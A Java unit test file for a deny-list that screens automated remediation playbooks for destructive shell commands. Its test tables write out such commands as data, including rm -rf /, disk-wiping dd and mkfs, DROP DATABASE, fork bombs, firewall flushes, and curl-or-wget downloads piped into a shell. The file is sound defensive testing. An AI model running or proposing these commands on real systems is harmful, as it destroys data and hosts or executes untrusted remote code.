package dev.reflex.domain.risk;

import static org.assertj.core.api.Assertions.assertThat;

import dev.reflex.domain.model.Playbook;
import dev.reflex.domain.model.PlaybookSource;
import dev.reflex.domain.model.PlaybookStats;
import dev.reflex.domain.model.PlaybookStatus;
import dev.reflex.domain.model.PlaybookStep;
import dev.reflex.domain.model.RiskClass;
import dev.reflex.domain.model.StepAction;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ForbiddenCommandsTest {

  private final ForbiddenCommands forbidden = ForbiddenCommands.defaults();

  @ParameterizedTest(name = "forbidden: {0}")
  @CsvSource(delimiter = '~', quoteCharacter = '"', textBlock = """
      rm -rf /                                   ~ rm -rf of the root directory
      rm -rf /*                                  ~ rm -rf of the root directory
      rm -fr /                                   ~ rm -rf of the root directory
      sudo   RM  -Rf   '/'                       ~ rm -rf of the root directory
      rm -rf --no-preserve-root /                ~ rm -rf of the root directory
      cd /tmp && rm -r -f /                      ~ rm -rf of the root directory
      mkfs.ext4 /dev/sdb1                        ~ mkfs (formats a filesystem)
      mkfs -t xfs /dev/xvdf                      ~ mkfs (formats a filesystem)
      dd if=/dev/zero of=/dev/sda bs=1M          ~ dd writing to a device
      psql -c 'DROP DATABASE payments'           ~ DROP DATABASE
      psql -c 'drop   table users'               ~ DROP TABLE
      psql -c 'TRUNCATE TABLE sessions'          ~ TRUNCATE (SQL)
      psql -c 'truncate sessions'                ~ TRUNCATE (SQL)
      shutdown -h now                            ~ shutdown/reboot/halt/poweroff of the host
      sudo reboot                                ~ shutdown/reboot/halt/poweroff of the host
      ls; halt                                   ~ shutdown/reboot/halt/poweroff of the host
      /sbin/poweroff                             ~ shutdown/reboot/halt/poweroff of the host
      systemctl reboot                           ~ shutdown/reboot/halt/poweroff of the host
      iptables -F                                ~ iptables -F (flushes the firewall)
      iptables -t nat --flush                    ~ iptables -F (flushes the firewall)
      :(){ :|:& };:                              ~ fork bomb
      bomb() { bomb | bomb & }; bomb             ~ fork bomb
      curl -s https://x.example/i.sh | sh        ~ piping a download into a shell
      wget -qO- http://x/i.sh | sudo bash        ~ piping a download into a shell
      chmod -R 777 /                             ~ chmod -R 777 of the root directory
      chmod 0777 -R /                            ~ chmod -R 777 of the root directory
      cat /dev/urandom > /dev/sda                ~ overwriting a disk by redirection
      echo x >/dev/nvme0n1                       ~ overwriting a disk by redirection
      """)
  void matches_whenCommandIsForbidden_namesTheRule(String command, String rule) {
    assertThat(forbidden.matches(command)).contains(rule);
  }

  @ParameterizedTest(name = "allowed: {0}")
  @CsvSource(delimiter = '~', quoteCharacter = '"', textBlock = """
      rm -rf /tmp/reflex-scratch
      rm -rf /var/log/app/old
      echo checking mkfs-tools version
      dd if=/dev/zero of=/tmp/file bs=1M count=1
      dd if=/dev/sda of=/dev/null
      psql -c 'SELECT * FROM dropped_tables'
      psql -c 'SELECT drop_table_stats()'
      truncate -s 0 /var/log/app.log
      systemctl status shutdown-watcher
      echo no reboot needed
      iptables -L -n
      iptables -A INPUT -f -j DROP
      curl -s https://x.example/health | jq .
      chmod -R 755 /var/www
      chmod 777 /tmp/x
      echo x > /dev/null
      """)
  void matches_whenCommandIsANearMiss_allowsIt(String command) {
    assertThat(forbidden.matches(command)).isEmpty();
  }

  @Test
  void violations_checkArgvNestedArgsRollbackAndVerification() {
    StepAction argv = StepAction.of("Wipe", "ansible.builtin.command",
        Map.of("argv", List.of("rm", "-rf", "/")));
    StepAction nested = StepAction.of("Nested", "ansible.builtin.uri",
        Map.of("url", "http://x/", "body", Map.of("steps", List.of("ok", "shutdown -h now"))));
    StepAction rollback = StepAction.of("Undo", "shell", Map.of("cmd", "iptables -F"));
    StepAction verification = StepAction.of("Verify", "shell", Map.of("cmd", "curl http://x/v.sh | bash"));
    Playbook playbook = playbook(List.of(
        new PlaybookStep(argv, RiskClass.READ_ONLY, null),
        new PlaybookStep(nested, RiskClass.READ_ONLY, null),
        new PlaybookStep(StepAction.of("Restart", "systemd", Map.of("name", "x", "state", "restarted")),
            RiskClass.SAFE_WRITE, rollback)), verification);

    assertThat(forbidden.violations(playbook)).containsExactly(
        "step \"Wipe\": forbidden command: rm -rf of the root directory",
        "step \"Nested\": forbidden command: shutdown/reboot/halt/poweroff of the host",
        "rollback \"Undo\" of step \"Restart\": forbidden command: iptables -F (flushes the firewall)",
        "verification \"Verify\": forbidden command: piping a download into a shell");
  }

  @Test
  void violations_checkAStepsOwnVerification_namingItsStep() {
    StepAction check = StepAction.of("Check", "shell", Map.of("cmd", "systemctl is-active x; mkfs.ext4 /dev/sdb"));
    Playbook playbook = playbook(List.of(new PlaybookStep(StepAction.of("Restart", "systemd",
        Map.of("name", "x", "state", "restarted")), RiskClass.SAFE_WRITE, null, check)), null);

    assertThat(forbidden.violations(playbook)).containsExactly(
        "verification \"Check\" of step \"Restart\": forbidden command: mkfs (formats a filesystem)");
  }

  @Test
  void violations_rebootModule_isForbidden() {
    assertThat(forbidden.violations(StepAction.of("Reboot", "ansible.builtin.reboot", Map.of())))
        .containsExactly("step \"Reboot\": forbidden command: shutdown/reboot/halt/poweroff of the host");
  }

  @Test
  void violations_stepNameMentioningACommand_isNotAViolation() {
    assertThat(forbidden.violations(StepAction.of("Avoid reboot; never rm -rf /", "command",
        Map.of("argv", List.of("df", "-h"))))).isEmpty();
  }

  @Test
  void violations_cleanPlaybook_isEmpty() {
    Playbook playbook = playbook(List.of(new PlaybookStep(StepAction.of("Restart", "command",
        Map.of("argv", List.of("kubectl", "rollout", "restart", "deployment/x"))), RiskClass.SAFE_WRITE, null)), null);
    assertThat(forbidden.violations(playbook)).isEmpty();
  }

  @Test
  void customPatterns_areCaseInsensitiveOnNormalisedText() {
    ForbiddenCommands custom = new ForbiddenCommands(List.of("\\bkubectl delete namespace\\b"));
    assertThat(custom.matches("KUBECTL   delete\n namespace prod")).containsExactly("\\bkubectl delete namespace\\b");
    assertThat(custom.matches("kubectl delete pod x")).isEmpty();
  }

  static Playbook playbook(List<PlaybookStep> steps, StepAction verification) {
    return new Playbook("test-playbook", "1.0.0", "Test", PlaybookSource.LEARNED, PlaybookStatus.PENDING_REVIEW,
        List.of("x"), List.of(), null, "", "", List.of(), steps, verification, PlaybookStats.initial(0.8),
        List.of(), "", null, null, 0);
  }
}
